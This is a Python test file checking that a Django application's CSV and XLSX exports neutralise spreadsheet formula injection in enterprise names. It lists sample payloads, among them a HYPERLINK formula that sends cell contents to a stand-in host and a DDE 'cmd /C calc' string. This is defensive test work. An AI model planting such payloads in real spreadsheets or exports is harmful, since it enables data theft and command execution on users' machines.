"""Issue 18 item 3: names that start like a formula stay text in every export (list CSV/XLSX, report files)."""

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from core.cells import csv_cell
from reports.definitions import INTEGER, TEXT, Column, Table
from reports.rendering import render_csv, render_xlsx
from tests.factories import EnterpriseFactory

pytestmark = pytest.mark.django_db

def _formula_like_cells(sheet):
    # XML keeps no bare CR: "\r=1+1" reads back as "\n=1+1"
    return [cell for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.replace("\n", "\r") in NASTY]


NASTY = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1"]


def test_csv_cells_are_neutralized_but_numbers_kept():
    for text in NASTY:
        assert csv_cell(text) == "'" + text
    for text in ("-5", "+8613912340203", "12.5%", "普通公司", "", None, 7):
        assert csv_cell(text) == text


def test_list_exports_write_formula_like_names_as_text(world):
    for name in NASTY:
        EnterpriseFactory(region=world.town_a, name=name)
    client = Client()
    client.force_login(world.admin)
    csv_text = b"".join(client.get("/organizations/enterprises/?export=csv").streaming_content).decode("utf-8-sig")
    for name in NASTY:
        assert "'" + name.replace('"', '""') in csv_text
    response = client.get("/organizations/enterprises/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = _formula_like_cells(sheet)
    assert len(cells) == len(NASTY)
    assert all(cell.data_type == "s" for cell in cells)


def test_report_files_write_formula_like_names_as_text():
    table = Table(columns=[Column("name", "名称", TEXT), Column("n", "数", INTEGER)],
                  rows=[[name, 1] for name in NASTY] + [["-5", -5]])
    text = render_csv(table, title="t", subtitle="s", generated_at="g").decode("utf-8-sig")
    for name in NASTY:
        assert "'" + name.replace('"', '""') in text
    assert "\r\n-5,-5\r\n" in text
    sheet = load_workbook(io.BytesIO(render_xlsx(table, title="t", subtitle="s", generated_at="g"))).active
    cells = _formula_like_cells(sheet)
    assert len(cells) == len(NASTY) and all(cell.data_type == "s" for cell in cells)
